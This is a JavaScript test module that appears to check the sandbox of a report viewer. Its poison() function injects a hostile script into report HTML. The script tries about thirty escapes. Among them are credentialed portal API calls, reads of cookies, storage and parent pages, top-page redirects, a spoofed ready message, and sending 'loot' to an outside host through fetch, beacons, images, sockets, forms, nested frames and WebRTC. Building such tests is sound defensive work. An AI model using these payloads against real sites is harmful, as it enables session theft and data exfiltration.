// A report as an attacker would send it: it parses, it shows its results, and its script tries to act as the person who reads it.

/** Each attempt is the body of an async function; what it returns got out. Those that throw or return nothing were held back. */
const ATTEMPTS = {
  'ask who is signed in': `return (await fetch(PORTAL + '/api/v1/me', { credentials: 'include' })).status;`,
  'ask by a relative address': `return (await fetch('/api/v1/me')).status;`,
  'ask the old way': `return await new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', PORTAL + '/api/v1/me'); x.onload = () => done(x.status); x.onerror = fail; x.send(); });`,
  'read the page around it': `return parent.document.title;`,
  'read the top page': `return top.document.body.innerText;`,
  'read the tokens of the page around it': `return Object.keys(parent.sessionStorage).join();`,
  'read its own storage': `return 'localStorage ' + localStorage.length;`,
  'read session storage': `return 'sessionStorage ' + sessionStorage.length;`,
  'open a database': `return await new Promise((done, fail) => { const r = indexedDB.open('loot'); r.onsuccess = () => done('opened'); r.onerror = () => fail(r.error); });`,
  'open the caches': `return await caches.keys();`,
  'read cookies': `return 'cookies ' + document.cookie;`,
  'register a service worker': `return (await navigator.serviceWorker.register('/viewer.html')).scope;`,
  'move the top page': `top.location.href = OUTSIDE + '/top'; return undefined;`,
  'replace the page around it': `parent.location.replace(OUTSIDE + '/parent'); return undefined;`,
  'open a window': `return window.open(OUTSIDE + '/window') && 'opened';`,
  'follow a link out of the frame': `const a = document.createElement('a'); a.href = OUTSIDE + '/link'; a.target = '_top'; document.body.append(a); a.click(); return undefined;`,
  'send a form': `const f = document.createElement('form'); f.action = OUTSIDE + '/form'; f.method = 'post'; f.target = '_top'; document.body.append(f); f.submit(); return undefined;`,
  'send to the attacker': `return (await fetch(OUTSIDE + '/fetch', { method: 'POST', mode: 'no-cors', body: 'loot' })).type;`,
  'send a beacon': `navigator.sendBeacon(OUTSIDE + '/beacon', 'loot'); return undefined;`,
  'load a picture': `return await new Promise((done, fail) => { const i = new Image(); i.onload = i.onerror = (e) => (e.type === 'load' ? done('loaded') : fail(e)); i.src = OUTSIDE + '/picture?loot'; });`,
  'load a script': `return await new Promise((done, fail) => { const s = document.createElement('script'); s.onload = () => done('loaded'); s.onerror = fail; s.src = OUTSIDE + '/script.js'; document.head.append(s); });`,
  'load a style': `return await new Promise((done, fail) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = () => done('loaded'); l.onerror = fail; l.href = OUTSIDE + '/style.css'; document.head.append(l); });`,
  'open a socket': `return await new Promise((done, fail) => { const w = new WebSocket(OUTSIDE.replace('http', 'ws') + '/socket'); w.onopen = () => done('open'); w.onerror = fail; });`,
  'frame another page': `return await new Promise((done, fail) => { const f = document.createElement('iframe'); document.addEventListener('securitypolicyviolation', fail, { once: true }); f.onload = () => done('loaded'); f.src = OUTSIDE + '/frame'; document.body.append(f); });`,
  'frame the portal': `return await new Promise((done, fail) => { const f = document.createElement('iframe'); document.addEventListener('securitypolicyviolation', fail, { once: true }); f.onload = () => done('loaded'); f.src = PORTAL + '/'; document.body.append(f); });`,
  'call out over WebRTC': `const p = new RTCPeerConnection({ iceServers: [{ urls: STUN }] }); p.createDataChannel('loot'); await p.setLocalDescription(await p.createOffer()); return 'called';`,
  'call out from a nested frame': `const f = document.createElement('iframe'); f.srcdoc = CALL; document.body.append(f); await soon(); return undefined;`,
  'call out from a script address': `const f = document.createElement('iframe'); f.src = 'javascript:' + encodeURIComponent(CALL.replace(/<.?script>/g, '')); document.body.append(f); await soon(); return undefined;`,
  'call out from under a shadow': `const h = document.createElement('div'); document.body.append(h); const f = document.createElement('iframe'); f.srcdoc = CALL; h.attachShadow({ mode: 'closed' }).append(f); await soon(); return undefined;`,
  'call out from a written shadow': `const f = document.createElement('iframe'); f.srcdoc = CALL; const h = document.createElement('div'); h.setHTMLUnsafe('<div><template shadowrootmode=closed>' + f.outerHTML + '</template></div>'); document.body.append(h); await soon(); return undefined;`,
  'pose as the frame being ready again': `parent.postMessage('bailiwick-viewer-ready', '*'); return undefined;`,
};

export const ATTEMPT_NAMES = Object.keys(ATTEMPTS);

/** Puts the hostile script into a whole report. Two buttons leave the frame, each in its way, when they are pressed. */
export function poison(html, { portal, outside, stun }) {
  const attempts = Object.entries(ATTEMPTS).map(([name, body]) => `[${JSON.stringify(name)}, async () => { ${body} }]`);
  const script = `
<h2>Loot</h2><ul id="loot" aria-label="Loot"></ul><p id="end" role="status"></p>
<button onclick="location.href = '${outside}/away?loot'">Leave</button>
<button onclick="document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=&quot;0;url=${outside}/refresh?loot&quot;>')">Refresh away</button>
<div><template shadowrootmode="closed"><iframe srcdoc="&lt;script&gt;new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] }).createOffer({ offerToReceiveAudio: true })&lt;/script&gt;"></iframe></template></div>
<script>
(async () => {
  const PORTAL = ${JSON.stringify(portal)}, OUTSIDE = ${JSON.stringify(outside)}, STUN = ${JSON.stringify(stun)};
  const CALL = '<script>const p = new RTCPeerConnection({ iceServers: [{ urls: "' + STUN + '" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o));<' + '/script>';
  const soon = () => new Promise((done) => setTimeout(done, 300));
  const attempts = [${attempts.join(',\n')}];
  for (const [name, attempt] of attempts) {
    let got;
    try { got = await attempt(); } catch (error) { got = undefined; }
    const line = document.createElement('li');
    line.textContent = name + ': ' + (got === undefined || got === null ? 'held back' : 'GOT ' + got);
    document.getElementById('loot').append(line);
  }
  document.getElementById('end').textContent = 'All tried';
})();
</script>`;
  return html.replace('</body>', () => `${script}</body>`);
}
